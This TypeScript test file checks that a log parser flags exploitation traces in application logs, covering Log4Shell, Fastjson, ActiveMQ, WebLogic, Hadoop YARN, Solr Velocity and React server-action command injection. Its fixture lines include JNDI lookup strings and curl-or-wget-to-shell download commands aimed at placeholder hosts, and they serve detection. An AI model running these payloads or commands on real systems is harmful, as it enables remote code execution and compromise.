// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attackers write such texts
import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { draftsOf } from '../../../test/logs.ts'
import { applicationLog } from './application-log.ts'
import { syslog } from './syslog.ts'

const told = (...lines: string[]) =>
  draftsOf(applicationLog, '/opt/app/logs/app.log', ...lines).map(d =>
    [d.verb, d.outcome, d.user, d.address, d.method, d.path, d.url, d.command, d.attack].filter(x => x !== undefined).join(' '),
  )

test('Log4j, Fastjson, ActiveMQ, WebLogic, YARN, XXL-JOB, Tomcat, Jenkins, Solr', () => {
  assert.deepEqual(
    told(
      '2026-11-22 01:02:03,123 http-nio-8080-exec-3 WARN Error looking up JNDI resource [ldap://198.51.100.6:1389/a]. javax.naming.CommunicationException',
      '2026-11-22 01:02:03.123  INFO 1 --- [nio-8080-exec-1] c.e.Login : user ${${lower:j}ndi:ldap://198.51.100.6:1389/b} failed',
      'com.alibaba.fastjson.JSONException: autoType is not support. com.sun.rowset.JdbcRowSetImpl',
      '2026-11-22 01:02:03,123 | INFO  | Loading XML bean definitions from URL [http://198.51.100.5:8000/poc.xml] | org.springframework.beans.factory.xml.XmlBeanDefinitionReader | ActiveMQ Transport',
      '2026-11-22 01:02:03,123 | WARN  | Transport Connection to: tcp://203.0.113.9:51234 failed: java.io.EOFException | org.apache.activemq.broker.TransportConnection.Transport',
      '2026-11-22 01:02:03,123 | WARN  | Security Error occurred on connection to: tcp://203.0.113.9:51234, User name [admin] or password is invalid. | org.apache.activemq.broker.TransportConnection.Service',
      '####<Nov 22, 2026 1:02:03,123 AM UTC> <Error> <RJVM> <host> <AdminServer> <[ACTIVE] ExecuteThread> <<WLS Kernel>> <> <> <1> <[severity-value: 8] > <BEA-000503> <Incoming message header or abbreviation processing failed. ',
      '2026-11-22 01:02:03,123 INFO org.apache.hadoop.yarn.server.resourcemanager.ClientRMService: Application with id 4711 submitted by user dr.who',
      '2026-11-22 01:02:03,123 INFO org.apache.hadoop.yarn.server.resourcemanager.amlauncher.AMLauncher: Command to launch container container_1_0001_01_000001 : curl http://198.51.100.5/a|sh',
      '2026-11-22 01:02:03,123 INFO org.apache.hadoop.yarn.server.resourcemanager.RMAuditLogger: USER=dr.who\tIP=203.0.113.9\tOPERATION=Submit Application Request\tTARGET=ClientRMService\tRESULT=SUCCESS',
      '2026-11-22 01:02:03 [com.xxl.job.core.handler.impl.ScriptJobHandler#execute]-[71]-[xxl-job, JobThread-7-1] ----------- script file:/data/applogs/xxl-job/jobhandler/gluesource/7_1586629003729.sh -----------',
      '22-Nov-2026 01:02:03.123 INFO [http-nio-8080-exec-9] org.apache.catalina.startup.HostConfig.deployWAR Deploying web application archive [/opt/tomcat/webapps/x.war]',
      "22-Nov-2026 01:02:03.123 INFO [http-nio-8080-exec-9] org.apache.catalina.core.ApplicationContext.log Manager: deploy: Deploying web application '/x'",
      'Started by user admin',
      '2026-11-22 01:02:03.123 INFO  (qtp1-17) [   x:demo] o.a.s.c.S.Request [demo]  webapp=/solr path=/select params={q=1&wt=velocity&v.template.custom=#set($x=1)} status=0',
    ),
    [
      'exploit lookup ldap://198.51.100.6:1389/a log4shell',
      'exploit in a log 198.51.100.6:1389 log4shell',
      'exploit failure fastjson-autotype',
      'exploit http://198.51.100.5:8000/poc.xml activemq-openwire',
      'error 203.0.113.9 java.io.EOFException | org.apache.activemq.broker.TransportConnection.Transport',
      'login-failed failure admin 203.0.113.9 activemq',
      'exploit failure weblogic-t3-gadget',
      'exploit success dr.who hadoop-yarn-submit',
      'exploit curl http://198.51.100.5/a|sh hadoop-yarn-submit',
      'request dr.who 203.0.113.9 hadoop-yarn-submit',
      'command xxl-job /data/applogs/xxl-job/jobhandler/gluesource/7_1586629003729.sh',
      'configured deploy /opt/tomcat/webapps/x.war',
      'configured manager deploying /x',
      'command admin jenkins build',
      'exploit q=1&wt=velocity&v.template.custom=#set($x=1) solr-velocity',
    ],
  )
})

test('what Next.js and pm2 keep of commands that were run through React', () => {
  assert.deepEqual(
    told(
      '0|web  | Error: Command failed: (cd /tmp; wget http://198.51.100.5/x86 -O /tmp/a; chmod 777 /tmp/a)',
      "  spawnargs: [ '-c', 'curl http://198.51.100.5/s | sh' ]",
      "  digest: 'NEXT_REDIRECT;push;/login?a=uid=0(root) gid=0(root);307;'",

      "  digest: 'NEXT_REDIRECT;push;/login?a=11111;307;'",
      'Error: Failed to find Server Action "x". This request might be from an older or newer deployment.',
      '/bin/sh: 1: busybox: not found',
    ),
    [
      'exploit failure (cd /tmp; wget http://198.51.100.5/x86 -O /tmp/a; chmod 777 /tmp/a) node-command',
      'exploit failure curl http://198.51.100.5/s | sh node-command',
      'exploit success uid=0(root) gid=0(root) react2shell',
      'exploit success 11111 react2shell',
      'request failure server action react2shell',
      'error busybox busybox: not found shell-output',
    ],
  )
})

test('times of the record before belong to what has none', () => {
  const [one] = draftsOf(
    applicationLog,
    '/x',
    '2026-11-22 01:02:03,123 ERROR x Transport Connection to: tcp://203.0.113.9:1 failed: x',
    'Error: Command failed: wget x',
  )
  assert.equal(one?.time?.ms, Date.UTC(2026, 10, 22, 1, 2, 3, 123))
  const [american] = draftsOf(applicationLog, '/x', 'Nov 22, 2026 1:02:03 PM org.x Error looking up JNDI resource [ldap://a/b]')
  assert.equal(american?.time?.ms, Date.UTC(2026, 10, 22, 13, 2, 3))
})

test('near misses: an ordinary day of applications', () => {
  assert.deepEqual(
    told(
      '2026-11-22 01:02:03,123 INFO ClientRMService: Allocated new applicationId: 12',
      '2026-11-22 01:02:03,123 INFO x.AMLauncher: Launching masterappattempt_1',
      'Error: Failed to find Server Action "7f1e2d3c4b5a69788796a5b4c3d2e1f001122334aa". This request might be from an older or newer deployment.',
      "  digest: '2338732612'",
      "  digest: 'NEXT_REDIRECT;replace;/dashboard;307;'",
      '2026-11-22 01:02:03.123  INFO 1 --- [main] o.s.b.w.e.tomcat.TomcatWebServer : Tomcat started on port 8080',
      '2026-11-22 01:02:03,123 INFO  Property ${spring.application.name} resolved',
      'WARNING: An illegal reflective access operation has occurred',
    ),
    [],
  )
  assert.equal(draftsOf(applicationLog, '/x', 'Error: Command failed: ffmpeg -i in.mp4 out.webm')[0]?.verb, 'command')
})

test('property: any text, no throw', () => {
  const piece = fc.oneof(
    fc.string({ maxLength: 60 }),
    fc.constantFrom(...applicationLog.needles, '[', ']', "'", '2026-11-22 01:02:03,123 '),
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 8 }), pieces => void [...applicationLog.open({ path: '/x', user: '' }).line(pieces.join(''))]),
  )
})

test('the same by the journal or syslog, in the name of the program', () => {
  const line = 'Nov 22 01:02:03 web1 node[77]: Error: Command failed: wget http://198.51.100.5/a -O /tmp/a'
  const [one, ...rest] = draftsOf(syslog, '/var/log/syslog', line, line.replace('node[', 'cron['))
  assert.deepEqual(rest, [])
  assert.deepEqual([one?.attack, one?.program, one?.pid], ['node-command', 'node', 77])
})
